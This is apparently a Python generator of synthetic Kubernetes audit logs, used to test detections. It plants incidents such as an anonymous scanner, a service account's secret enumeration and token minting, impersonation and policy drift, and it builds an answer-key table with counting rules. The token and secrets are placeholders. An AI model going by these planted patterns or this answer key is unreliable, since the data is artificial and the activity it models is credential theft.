                "apiGroup": "certificates.k8s.io",
            },
            "RequestResponse",
            201,
            reqo=csr,
            respo="@@created",
        )
    )

    # --- policy drift on master-3 -------------------------------------------------------------
    for i in range(5):
        p.append(
            _P(
                "drift",
                f"Thu 03:{12 + i * 3:02d}:{(7 + 13 * i) % 60:02d}",
                "cert-manager",
                "get",
                "/api/v1/namespaces/prod/secrets/web-tls",
                {"resource": "secrets", "namespace": "prod", "name": "web-tls"},
                "RequestResponse",
                respo="@@secret",
                master=DRIFT_MASTER_INDEX,
            )
        )
    return p


def _res_of(path: str) -> dict[str, str] | None:
    """objectRef for the scanner's cluster/namespace list paths (None for non-resource)."""
    parts = path.strip("/").split("/")
    if parts[0] == "api" and len(parts) >= 3:
        rest, grp = parts[2:], ""
    elif parts[0] == "apis" and len(parts) >= 4:
        rest, grp = parts[3:], parts[1]
    else:
        return None
    o = {"resource": rest[-1]}
    if len(rest) == 3 and rest[0] == "namespaces":
        o["namespace"] = rest[1]
    if grp:
        o["apiGroup"] = grp
    return o


_LONGRUN_SUBS = ("exec", "attach", "portforward", "log", "proxy")


def _render_planted(g: _Gen, spec: _P, t: int, m: int, n: int) -> None:
    actor = _planted_actor(spec.actor)
    oref_j = ""
    if spec.oref is not None:
        o = dict(spec.oref)
        oref_j = _oref(
            o.get("resource", ""),
            o.get("namespace", ""),
            o.get("name", ""),
            o.get("apiGroup", ""),
            sub=o.get("subresource", ""),
        )
    uri_j = _j(spec.uri)
    if spec.code == 401:
        g.unauthorized(m, t, spec.level, spec.verb, uri_j, oref_j, actor.ips[0], actor.ua_j)
        return
    if spec.code == 403 and not spec.status:  # the scanner as system:anonymous
        if spec.oref is None:
            status = _forbidden_path("system:anonymous", spec.uri.split("?")[0])
        else:
            o = spec.oref
            status = _forbidden(
                "system:anonymous",
                spec.verb,
                o["resource"],
                o.get("apiGroup", ""),
                o.get("namespace", ""),
            )
        g.req(m, t, actor, spec.level, spec.verb, uri_j, oref_j, status, _FORBID, dur=400 + n)
        return
    if spec.ann == {}:
        ann_j = _FORBID
    elif spec.ann:
        base = json.loads(actor.allow_j)
        base.update(spec.ann)
        ann_j = _j(_sorted(base))
    else:
        ann_j = actor.allow_j
    status = spec.status or _st(spec.code)
    now = g.sec(t)
    uid = _uuid_from(random.Random(f"{spec.incident}/{n}"))  # noqa: S311
    rv = g.next_rv()
    reqo = _j(spec.reqo) if spec.reqo is not None else ""
    respo = ""
    if spec.respo == "@@created":
        obj = json.loads(reqo)
        obj["metadata"] = {
            **obj["metadata"],
            "uid": uid,
            "resourceVersion": rv,
            "creationTimestamp": now,
        }
        if obj.get("kind") == "Pod":
            obj["status"] = {"phase": "Pending", "qosClass": "BestEffort"}
        respo = _j(obj)
        if spec.oref and spec.oref.get("name"):
            oref_j = _oref(
                spec.oref["resource"],
                spec.oref.get("namespace", ""),
                spec.oref["name"],
                spec.oref.get("apiGroup", ""),
                uid="",
            )
    elif spec.respo == "@@token":
        exp = g.sec(t + 31536000 * _US)
        respo = _j(
            {
                "kind": "TokenRequest",
                "apiVersion": "authentication.k8s.io/v1",
                "metadata": {"name": "deployer", "namespace": "prod", "creationTimestamp": now},
                "spec": {
                    "audiences": ["https://kubernetes.default.svc.cluster.local"],
                    "expirationSeconds": 31536000,
                    "boundObjectRef": None,
                },
                "status": {
                    "token": "eyJhbGciOiJSUzI1NiIsImtpZCI6ImRlbW8tb25seSJ9.eyJhdWQiOlsia3"
                    "ViZXJuZXRlcyJdLCJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQ6cHJvZD"
                    "pkZXBsb3llciJ9.c3ludGhldGljLWRlbW8tc2lnbmF0dXJl",
                    "expirationTimestamp": exp,
                },
            }
        )
    elif spec.respo == "@@secret":
        respo = _j(
            {
                "kind": "Secret",
                "apiVersion": "v1",
                "metadata": {
                    "name": "web-tls",
                    "namespace": "prod",
                    "uid": "9b1f3c2e-7a4d-4e8b-b6c5-2d0e1f8a7c34",
                    "resourceVersion": rv,
                    "creationTimestamp": g.created,
                    "annotations": {
                        "cert-manager.io/certificate-name": "web-tls",
                        "cert-manager.io/issuer-kind": "ClusterIssuer",
                        "cert-manager.io/issuer-name": "letsencrypt-prod",
                    },
                },
                "data": {
                    "ca.crt": "",
                    "tls.crt": "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSUZMekNDQkJlZ0F3",
                    "tls.key": "LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVktLS0tLQpNSUlFcEFJQkFBS0NB",
                },
                "type": "kubernetes.io/tls",
            }
        )
    elif spec.respo == "@@patched-deploy":
        respo = _j(
            {
                "kind": "Deployment",
                "apiVersion": "apps/v1",
                "metadata": {
                    "name": "web",
                    "namespace": "prod",
                    "uid": uid,
                    "resourceVersion": rv,
                    "generation": 9,
                    "creationTimestamp": g.created,
                },
                "spec": {
                    "replicas": 3,
                    "template": {
                        "spec": {
                            "containers": [
                                {
                                    "name": "web",
                                    "image": f"{REGISTRY}/web:2.15.0",
                                }
                            ]
                        }
                    },
                },
                "status": {"observedGeneration": 8, "replicas": 3},
            }
        )
    elif spec.respo is not None:
        respo = (
            _j(spec.respo)
            .replace('"@@uid"', f'"{uid}"')
            .replace('"@@rv"', f'"{rv}"')
            .replace('"@@now"', f'"{now}"')
            .replace('"@@old"', f'"{g.created}"')
        )
    if spec.verb == "delete" and spec.oref:
        o = spec.oref
        oref_j = _oref(o["resource"], o.get("namespace", ""), o["name"], o.get("apiGroup", ""))
    imp_j = _j(spec.imp) if spec.imp else ""
    dur = spec.dur_ms * 1000 if spec.dur_ms else 0
    if spec.longrun:
        g.req(
            m,
            t,
            actor,
            spec.level,
            spec.verb,
            uri_j,
            oref_j,
            status,
            ann_j,
            reqo,
            respo,
            dur=dur,
            started=_st(spec.code),
            imp_j=imp_j,
        )
    else:
        g.req(
            m,
            t,
            actor,
            spec.level,
            spec.verb,
            uri_j,
            oref_j,
            status,
            ann_j,
            reqo,
            respo,
            dur=dur,
            imp_j=imp_j,
        )


def _at_seconds(at: str) -> int:
    day, hms = at.split()
    h, mi, s = (int(x) for x in hms.split(":"))
    return WEEKDAYS.index(day) * 86400 + h * 3600 + mi * 60 + s


def _requests_lines(spec: _P) -> int:
    return 2 if spec.longrun else 1


def _build_planted_table() -> list[dict[str, Any]]:
    specs = _planted()
    table = []
    for inc in _INCIDENTS:
        mine = [s for s in specs if s.incident == inc.key]
        first = min(mine, key=lambda s: _at_seconds(s.at))
        actor = _planted_actor(first.actor)
        user = json.loads(actor.user_j)
        reason = json.loads(actor.allow_j).get("authorization.k8s.io/reason", "")
        person = reason.rsplit('to User "', 1)[1].rstrip('"') if 'to User "' in reason else ""
        codes = sorted({s.code for s in mine})
        entry: dict[str, Any] = {
            "id": inc.id,
            "key": inc.key,
            "count": len(mine),
            "lines": sum(_requests_lines(s) for s in mine),
            "description": inc.description,
            "username": user.get("username", ""),
            "attributed_to": person if user.get("username") == ADMIN else "",
            "source_ip": json.loads(actor.ips[0])[-1],
            "source_ips": json.loads(actor.ips[0]),
            "user_agent": json.loads(actor.ua_j),
            "first_local": first.at,
            "codes": codes,
            "also": list(inc.also),
            "observable": inc.observable,
        }
        if inc.key == "drift":
            entry["master"] = f"master-{DRIFT_MASTER_INDEX + 1}"
        if inc.key == "impersonate":
            entry["impersonated"] = "system:serviceaccount:prod:deployer"
        if inc.key == "scanner":
            entry["failures"] = sum(1 for s in mine if s.code >= 400)
        if inc.key == "secret-day":
            entry["distinct_secrets"] = len({s.uri for s in mine})
        table.append(entry)
    return table


PLANTED: list[dict[str, Any]] = _build_planted_table()


COUNTING_NOTES = (
    "Counts are requests (distinct auditIDs), not lines; exec/attach/portforward have two lines.",
    "Human identity = username not starting with `system:`; kubernetes-admin is human and its "
    "person is the `to User` of the RBAC reason annotation.",
    "system-identity-public-ip ignores `system:anonymous` (no credential to steal); the scanner "
    "and the anonymous reader are reported by their own detections.",
    "secret-enumeration: cluster-wide secret lists, and all secret reads of an identity on a "
    "local (UTC+8) day with >= 3 distinct secret names.",
    "The background traffic matches no detection, so each detection's total is the sum of the "
    "planted rows whose id or `also` names it (rows marked not observable excluded).",
)


def planted_markdown() -> str:
    """Markdown table of the planted incidents (week-relative local times, UTC+8)."""
    rows = [
        "| id | requests | lines | identity | source IP | first (local) | what |",
        "|---|---:|---:|---|---|---|---|",
    ]
    for e in PLANTED:
        who = e["username"] or "(unauthenticated)"
        if e["attributed_to"]:
            who += f" (= {e['attributed_to']})"
        what = e["description"]
        if e["also"]:
            what += "; also " + ", ".join(e["also"])
        if not e["observable"]:
            what += " (not observable under the ACK policy)"
        rows.append(
            f"| {e['id']} | {e['count']} | {e['lines']} | {who} | {e['source_ip']} | "
            f"{e['first_local']} | {what.replace('|', chr(92) + '|')} |"
        )
    rows.append("")
    rows += [f"- {n}" for n in COUNTING_NOTES]
    return "\n".join(rows) + "\n"


# --------------------------------------------------------------------------------------------
# lumberjack writer
# --------------------------------------------------------------------------------------------


class _Writer:
    """Mimics lumberjack v2: rotate before a write that would exceed the limit."""

    def __init__(
        self, directory: Path, limit: int, compress: bool, rng: random.Random, empty_mtime_us: int
    ) -> None:
        self.dir = directory
        self.limit = limit
        self.compress = compress
        self.rng = rng
        self.active = directory / ACTIVE_NAME
        self.f = self._open()
        self.size = 0
        self.max_stage = 0
        self.last_rot_ms = 0
        self.backups: list[str] = []
        self.lines = 0
        self.empty_mtime_us = empty_mtime_us

    def _open(self) -> BinaryIO:
        # lumberjack v2.2 creates the first file 0600 and later ones with the old file's mode
        f = open(self.active, "wb", buffering=1 << 20)  # noqa: SIM115 - closed in _rotate/close
        os.chmod(self.active, 0o600)
        return f

    def write(self, data: bytes, stage: int) -> None:
        n = len(data)
        if self.size + n > self.limit:
            if n > self.limit:
                raise ValueError("event line longer than max_size; lumberjack would drop it")
            self._rotate()
        self.f.write(data)
        self.size += n
        self.lines += 1
        if stage > self.max_stage:
            self.max_stage = stage

    def _rotate(self) -> None:
        self.f.close()
        # the rename happens a few ms after the newest event in the file was written
        rot_us = self.max_stage + 1000 + int(self.rng.random() * 4000)
        ms = max(rot_us // 1000, self.last_rot_ms + 1)
        self.last_rot_ms = ms
        ts = dt.datetime.fromtimestamp(ms // 1000, dt.UTC).strftime("%Y-%m-%dT%H-%M-%S")
        name = f"kubernetes-{ts}.{ms % 1000:03d}.audit"
        backup = self.dir / name
        os.replace(self.active, backup)
        mtime_ns = ms * 1_000_000
        if self.compress:
            gz = self.dir / (name + ".gz")
            with (
                open(backup, "rb") as src,
                open(gz, "wb") as raw,
                gzip.GzipFile(
                    filename="", mode="wb", compresslevel=GZIP_LEVEL, fileobj=raw, mtime=0
                ) as z,
            ):
                shutil.copyfileobj(src, z, 1 << 20)
            os.chmod(gz, 0o600)
            os.utime(gz, ns=(mtime_ns, mtime_ns))
            backup.unlink()
            name += ".gz"
        else:
            os.utime(backup, ns=(mtime_ns, mtime_ns))
        self.backups.append(name)
        self.f = self._open()
        self.size = 0
        self.max_stage = 0

    def close(self) -> None:
        self.f.close()
        us = self.max_stage or self.empty_mtime_us
        os.utime(self.active, ns=(us * 1000, us * 1000))


# --------------------------------------------------------------------------------------------
# driver
# --------------------------------------------------------------------------------------------


def _human_weight(minute_of_week: int) -> float:
    day, mod = divmod(minute_of_week, 1440)
    hour = mod // 60
    curve = (
        0.02,
        0.01,
        0.01,
        0.01,
        0.01,
        0.01,
        0.02,
        0.05,
        0.3,
        0.9,
        1.0,
        1.0,
        0.45,
        0.7,
        1.0,
        1.0,
        1.0,
        0.9,
        0.55,
        0.3,
        0.3,
        0.25,
        0.12,
        0.05,
    )
    return curve[hour] * (1.0 if day < 5 else 0.15)


def _cum(weights: Iterable[float]) -> list[float]:
    out, acc = [], 0.0
    for w in weights:
        acc += w
        out.append(acc)
    return out


def synth_week(
    out_dir: Path,
    week: str = "2026-W47",
    masters: int = 3,
    events: int = 20000,
    seed: int = 47,
    max_size_mb: float = 100.0,
    compress: bool = False,
    cluster: str = "demo",
) -> dict[str, Any]:
    """Write one week of ACK-style audit logs for ``masters`` masters under ``out_dir``.

    Args:
        out_dir: root directory; ``<out_dir>/master-<n>/`` is created and must be empty.
        week: ISO week, local time UTC+8 (Asia/Shanghai), Monday 00:00 to Sunday 24:00.
        masters: number of control-plane nodes (each writes its own file set).
        events: approximate total number of event lines across all masters.
        seed: RNG seed; the same arguments give byte-identical files.
        max_size_mb: lumberjack ``--audit-log-maxsize`` in MiB (fractions allowed, >= 1/16).
        compress: gzip rotated backups (``--audit-log-compress``).
        cluster: cluster name recorded in the summary.

    Returns:
        A summary: window, files per master, line and request totals, planted incidents.
    """
    if masters < 1:
        raise ValueError("masters must be >= 1")
    limit = int(max_size_mb * MIB)
    if limit < MIN_MAX_SIZE_BYTES:
        raise ValueError(f"max_size_mb must be >= {MIN_MAX_SIZE_BYTES / MIB}")
    out_dir = Path(out_dir)
    start = _week_start_utc(week)
    start_us = int(start.timestamp()) * _US
    g = _Gen(start_us, masters, seed)
    names = [f"master-{i + 1}" for i in range(masters)]
    writers = []
    for i, name in enumerate(names):
        d = out_dir / name
        d.mkdir(parents=True, exist_ok=True)
        if any(d.iterdir()):
            raise FileExistsError(f"{d} is not empty")
        rot_rng = random.Random(seed * 7919 + i)  # noqa: S311
        writers.append(_Writer(d, limit, compress, rot_rng, start_us))

    specs = sorted(_planted(), key=lambda s: _at_seconds(s.at))
    planted_lines = sum(_requests_lines(s) for s in specs)
    background = max(events - planted_lines, 0)
    n_buckets = WEEK_S // BUCKET_S
    hw = [_human_weight(b) for b in range(n_buckets)]
    hw_total = sum(hw)
    sys_per = background * SYSTEM_SHARE / n_buckets
    hum_scale = background * HUMAN_SHARE / hw_total
    un_per = background * (1 - SYSTEM_SHARE - HUMAN_SHARE) / n_buckets

    sys_ops = _system_ops(g)
    sys_fns, sys_cw = [f for _, f in sys_ops], _cum(w for w, _ in sys_ops)
    hum_ops = _human_ops(g)
    hum_fns, hum_cw = [f for _, f in hum_ops], _cum(w for w, _ in hum_ops)
    actors = _human_actors()
    act_list, act_cw = [a for _, a in actors], _cum(w for w, _ in actors)
    un_ops = _unauth_ops(g)
    un_fns, un_cw = [f for _, f in un_ops], _cum(w for w, _ in un_ops)
    rng = g.rng
    choices = rng.choices

    sys_done = hum_done = un_done = 0
    sys_target = hum_target = un_target = 0.0
    pi = 0
    rr = 0
    bucket_us = BUCKET_S * _US
    for b in range(n_buckets):
        b0 = start_us + b * bucket_us
        g.bucket_end = b0 + bucket_us
        while pi < len(specs) and _at_seconds(specs[pi].at) < (b + 1) * BUCKET_S:
            s = specs[pi]
            m = s.master if s.master is not None else rr % masters
            m = min(m, masters - 1)
            rr += 1
            t = start_us + _at_seconds(s.at) * _US + int(rng.random() * 900_000)
            _render_planted(g, s, t, m, pi)
            pi += 1
        before = g.lines
        sys_target += sys_per
        while sys_done < sys_target:
            t = b0 + int(rng.random() * bucket_us)
            op = choices(sys_fns, cum_weights=sys_cw)[0]
            m = int(rng.random() * masters)
            op(t, m)
            sys_done += g.lines - before
            before = g.lines
        hum_target += hw[b] * hum_scale
        while hum_done < hum_target:
            t = b0 + int(rng.random() * bucket_us)
            choices(hum_fns, cum_weights=hum_cw)[0](
                t, int(rng.random() * masters), choices(act_list, cum_weights=act_cw)[0]
            )
            hum_done += g.lines - before
            before = g.lines
        un_target += un_per
        while un_done < un_target:
            t = b0 + int(rng.random() * bucket_us)
            choices(un_fns, cum_weights=un_cw)[0](t, int(rng.random() * masters))
            un_done += g.lines - before
            before = g.lines
        for m in range(masters):
            w = writers[m]
            for _key, line, stage in g.drain(m, g.bucket_end):
                w.write(line.encode(), stage)
    for m in range(masters):
        for _key, line, stage in g.drain(m, g.end_us + 1):
            writers[m].write(line.encode(), stage)
        writers[m].close()

    per_master = {}
    for name, w in zip(names, writers, strict=True):
        files = [*w.backups, ACTIVE_NAME]
        per_master[name] = {
            "files": files,
            "bytes": {f: (out_dir / name / f).stat().st_size for f in files},
            "lines": w.lines,
        }
    planted = []
    for e in PLANTED:
        e2 = dict(e)
        if "master" in e2:
            e2["master"] = names[min(DRIFT_MASTER_INDEX, masters - 1)]
        local = start + dt.timedelta(seconds=_at_seconds(e["first_local"]) + LOCAL_OFFSET_S)
        e2["first_local_time"] = local.strftime("%Y-%m-%dT%H:%M:%S+08:00")
        planted.append(e2)
    return {
        "cluster": cluster,
        "week": week,
        "timezone": LOCAL_TZ_NAME,
        "window_utc": [g.fmt(start_us), g.fmt(g.end_us)],
        "seed": seed,
        "max_size_mb": max_size_mb,
        "compress": compress,
        "masters": per_master,
        "events": g.lines,
        "requests": g.requests,
        "planted": planted,
    }
